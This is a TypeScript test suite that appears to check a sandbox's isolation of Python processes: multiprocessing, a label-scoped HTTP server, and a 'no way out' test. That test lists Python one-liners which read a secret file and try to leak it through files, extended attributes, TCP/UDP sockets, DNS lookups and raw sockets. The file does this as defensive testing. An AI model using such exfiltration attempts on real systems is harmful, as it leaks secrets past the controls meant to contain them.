/** Python: processes with every kind of channel between them, an HTTP server, and its client in another run. */
import { deepStrictEqual, strictEqual } from "node:assert";
import { ADDRESS, type Attempt, PORT } from "./stage.ts";
import type { Program } from "./suite.ts";

const PYTHON = "/usr/bin/python3";

const INSIDE = `
import multiprocessing as m, mmap, os, sys, tempfile, concurrent.futures as f
from multiprocessing import shared_memory
def square(x): return x * x
def put(q, name, n):
    s = shared_memory.SharedMemory(name); s.buf[0] += 1; s.close()
    with n.get_lock(): n.value += 1
    q.put(os.getpid())
if __name__ == "__main__":
    for how in ("fork", "spawn", "forkserver") if "sockets" in sys.argv else ("fork", "spawn"):
        with m.get_context(how).Pool(2) as p: print(how, sum(p.map(square, range(100))))
    q, n, s = m.Queue(), m.Value("i", 0), shared_memory.SharedMemory(create=True, size=100)
    ps = [m.Process(target=put, args=(q, s.name, n)) for _ in range(3)]
    for p in ps: p.start(); p.join()
    print("queue", len({q.get() for _ in ps}), "value", n.value, "shared", s.buf[0]); s.unlink()
    a, b = m.Pipe(); a.send({"x": [1, 2]}); print("pipe", b.recv())
    if "sockets" in sys.argv:
        with m.Manager() as g: d = g.dict(); d["k"] = 7; print("manager", dict(d))
    with f.ThreadPoolExecutor(4) as e: print("threads", sum(e.map(square, range(10))))
    with open("mapped", "w+b") as x:
        x.truncate(8192); mm = mmap.mmap(x.fileno(), 8192); mm[4096:4100] = b"here"; mm.flush(); print(open("mapped", "rb").read()[4096:4100])
`;

const EXPECTED = (sockets: boolean) =>
  [
    "fork 328350",
    "spawn 328350",
    ...(sockets ? ["forkserver 328350"] : []),
    "queue 3 value 3 shared 3",
    "pipe {'x': [1, 2]}",
    ...(sockets ? ["manager {'k': 7}"] : []),
    "threads 285",
    "b'here'",
  ].join("\n");

export const python: Program = [
  {
    name: "processes, queues, shared memory, threads, mappings",
    async run(stage) {
      await stage.open(`cat > inside.py <<'END'\n${INSIDE}\nEND\ntrue`);
      strictEqual((await stage.ok([PYTHON, "inside.py"])).trim(), EXPECTED(false));
    },
  },
  {
    name: "managers and fork servers, which use sockets",
    async run(stage) {
      strictEqual((await stage.ok([PYTHON, "inside.py", "sockets"])).trim(), EXPECTED(true));
    },
  },
  {
    name: "an HTTP server for another run of its label, and for nobody else",
    async run(stage) {
      const server = await stage.serve(
        [PYTHON, "-u", "-m", "http.server", "8080", "--bind", "127.0.0.1"],
        /Serving HTTP/,
      );
      try {
        const get = `import urllib.request as u; print(u.urlopen("http://localhost:8080/secret").read().decode(), end="")`;
        strictEqual(await stage.ok([PYTHON, "-c", get]), "xyzzy-4711-plugh\n");
        const outside = await stage.bench.shell("curl -s --max-time 5 http://127.0.0.1:8080/secret");
        deepStrictEqual([outside.code, outside.out], [7, ""]);
        await stage.bench.ok("tag", "create", "soft/other");
        const other = await stage.run([PYTHON, "-c", get], { tags: "soft/other", folder: "/" });
        deepStrictEqual([other.code, other.out], [1, ""]);
        // Not even more secrecy reaches it: a connection informs both sides [OP-3].
        const above = await stage.run([PYTHON, "-c", get], { tags: `soft/other,${stage.tag}`, folder: "/" });
        deepStrictEqual([above.code, above.out], [1, ""]);
      } finally {
        await server.stop();
      }
    },
  },
  {
    name: "no way out: files, names, attributes, sockets, DNS",
    async run(stage) {
      const attempt = (what: string, code: string, refused: Attempt["refused"] = "folder") => ({
        what,
        argv: [
          PYTHON,
          "-c",
          `import os, socket; s = open("secret").read().strip(); b = s.encode(); out = "${stage.out}"\n${code}`,
        ],
        refused,
      });
      const socket = "network";
      const tcp = (family: string, address: string) =>
        `k = socket.socket(socket.${family}); k.settimeout(5); k.connect(${address}); k.sendall(b)`;
      await stage.noWayOut([
        attempt("open", `open(out + "/x", "w").write(s)`),
        attempt("append", `open(out + "/existing", "a").write(s)`),
        // Two volumes are two mounts, and the kernel itself joins no names across them.
        attempt("rename", `os.rename("mapped", out + "/" + s)`, null),
        attempt("link", `os.link("mapped", out + "/l")`, null),
        attempt("times", `os.utime(out + "/existing", (4711, 4711))`),
        attempt("attributes", `os.setxattr(out + "/existing", "user.x", b)`),
        attempt("mode", `os.chmod(out + "/existing", 0o123)`),
        attempt(
          "a directory's descriptor",
          `os.open("x", os.O_CREAT | os.O_WRONLY, dir_fd=os.open(out, os.O_RDONLY))`,
        ),
        attempt(
          "reopening",
          `os.open("/proc/self/fd/%d" % os.open(out + "/existing", os.O_RDONLY), os.O_RDWR)`,
        ),
        attempt("TCP", tcp("AF_INET", `("${ADDRESS}", ${PORT})`), socket),
        attempt("TCP to a mapped address", tcp("AF_INET6", `("::ffff:${ADDRESS}", ${PORT})`), socket),
        attempt("TCP to loopback", tcp("AF_INET", `("127.0.0.1", ${PORT})`), null),
        attempt("TCP over IPv6", tcp("AF_INET6", `("::1", ${PORT})`), null),
        attempt(
          "UDP",
          `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b, ("${ADDRESS}", ${PORT}))`,
          socket,
        ),
        attempt(
          "connected UDP",
          `k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); k.connect(("${ADDRESS}", 53)); k.send(b)`,
          socket,
        ),
        // These stay in the network of the label.
        attempt(
          "broadcast",
          `k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); k.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); k.sendto(b, ("255.255.255.255", ${PORT}))`,
          null,
        ),
        attempt(
          "multicast",
          `k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); k.sendto(b, ("224.0.0.1", ${PORT}))`,
          null,
        ),
        attempt("a name to be looked up", `socket.getaddrinfo(s + ".example.org", 80)`, socket),
        attempt("a Unix socket", tcp("AF_UNIX", `out + "/socket-1"`), /FLOW-1|OP-12/),
        attempt(
          "a Unix datagram",
          `socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b, out + "/socket-2")`,
          /FLOW-1|OP-12/,
        ),
        attempt("an abstract socket", tcp("AF_UNIX", `"\\0outside-1"`), null),
        attempt("a socket made outside", `socket.socket(socket.AF_UNIX).bind(out + "/" + s)`, /FLOW-1|OP-12/),
        attempt(
          "raw",
          `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b, ("${ADDRESS}", 0))`,
          /^socket /,
        ),
        attempt("packets", `socket.socket(socket.AF_PACKET, socket.SOCK_RAW)`, /^socket /),
      ]);
    },
  },
];
